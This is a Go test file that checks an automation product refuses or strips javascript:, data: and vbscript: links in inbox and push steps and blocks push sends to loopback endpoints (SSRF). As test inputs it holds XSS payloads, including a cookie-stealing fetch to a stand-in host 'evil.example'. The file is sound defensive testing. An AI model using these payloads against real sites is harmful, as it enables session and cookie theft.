package actions_test

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/cartwheelhq/cartwheel/automation"
	"github.com/cartwheelhq/cartwheel/automation/actions"
	"github.com/cartwheelhq/cartwheel/messaging/webpush"
)

// A flow whose inbox or push step links to javascript: (or data:) is
// refused when it is saved, literal or behind a template's literal scheme
// (issue 12).
func TestCheckStepRefusesScriptLinks(t *testing.T) {
	f := newFixture(t)
	for _, kind := range []string{automation.KindInbox, automation.KindSendPush} {
		for param, v := range map[string]string{
			"url":   "javascript:alert(document.cookie)",
			"image": "data:image/svg+xml,<svg onload=alert(1)>",
			"icon":  "vbscript:x",
		} {
			check(t, f, kind, map[string]any{"title": "Hi", param: v}, param)
		}
		check(t, f, kind, map[string]any{"title": "Hi", "url": " JavaScript:{{.Vars.x}}"}, "url")
		check(t, f, kind, map[string]any{"title": "Hi", "url": "java\tscript:alert(1)"}, "url")
		for _, ok := range []string{"/cart", "https://shop.example/x", "{{.Vars.next}}", "https://shop.example/{{.Vars.p}}", "/p?u={{.Vars.x}}"} {
			if err := f.ch.CheckStep(automation.Step{ID: "s", Kind: kind, Params: map[string]any{"title": "Hi", "url": ok}}); err != nil {
				t.Errorf("%s url %q refused: %v", kind, ok, err)
			}
		}
	}
}

func check(t *testing.T, f *fixture, kind string, p map[string]any, param string) {
	t.Helper()
	err := f.ch.CheckStep(automation.Step{ID: "s", Kind: kind, Params: p})
	var pe *actions.ParamError
	if !errors.As(err, &pe) || pe.Param != param {
		t.Errorf("%s %v: %v, want a ParamError on %s", kind, p, err, param)
	}
}

// A url template that renders to javascript: from the trigger event's data
// is not stored as a link: the item keeps its title, without the url.
func TestInboxDropsScriptLinkRenderedFromEventData(t *testing.T) {
	f := newFixture(t)
	f.contact("ct_ann", "", "v1", false, "")
	if err := f.ingest.RecordFor(f.ctx, ws, "ct_ann", "back_in_stock", "test", t0,
		map[string]any{"next": "javascript:fetch('//evil.example/?'+document.cookie)", "img": "javascript:alert(1)"}); err != nil {
		t.Fatal(err)
	}
	evs := f.events("back_in_stock")
	if len(evs) != 1 {
		t.Fatalf("events %+v", evs)
	}
	s := automation.Step{ID: "inbox", Kind: automation.KindInbox, Params: map[string]any{
		"title": "Back in stock", "url": "{{.Vars.next}}"}}
	if err := f.ch.CheckStep(s); err != nil {
		t.Fatalf("the template itself is fine at save: %v", err)
	}
	res, err := f.ch.AddInbox(f.ctx, enrollment("ct_ann", evs[0].ID), s)
	if err != nil {
		t.Fatal(err)
	}
	m, err := f.st.Message(f.ctx, ws, messageID(t, res))
	if err != nil {
		t.Fatal(err)
	}
	var body map[string]string
	_ = json.Unmarshal(m.Body, &body)
	if body["title"] != "Back in stock" || body["url"] != "" || strings.Contains(string(m.Body), "javascript") {
		t.Errorf("stored inbox item %s", m.Body)
	}
}

// A subscription stored before endpoints were checked, on a loopback
// address, is never posted to by a production sender: the send is refused
// in the dialer's policy and the subscription deleted like a gone one
// (issue 12: SSRF through push subscriptions).
func TestSendPushRefusesPrivateEndpoint(t *testing.T) {
	keys, err := webpush.GenerateKeys()
	if err != nil {
		t.Fatal(err)
	}
	f := newFixture(t, func(o *actions.Options) {
		o.Push = webpush.NewSender(keys, "mailto:ops@shop.example") // the default policy
	})
	f.contact("ct_ann", "", "v1", false, "")
	f.subscribe("push_1", "v1")
	en := enrollment("ct_ann", f.checkout("v1"))
	res, err := f.ch.SendPush(f.ctx, en, pushStep("push1"))
	if err != nil || res.Skipped != actions.SkipNoSubscription {
		t.Fatalf("SendPush to a loopback endpoint = %+v, %v; want skipped, no subscription", res, err)
	}
	if f.push.Requests() != 0 {
		t.Errorf("%d requests reached the loopback push service", f.push.Requests())
	}
	if subs, _ := f.st.VisitorPushSubscriptions(f.ctx, ws, "v1"); len(subs) != 0 {
		t.Errorf("forbidden subscription kept: %+v", subs)
	}
}
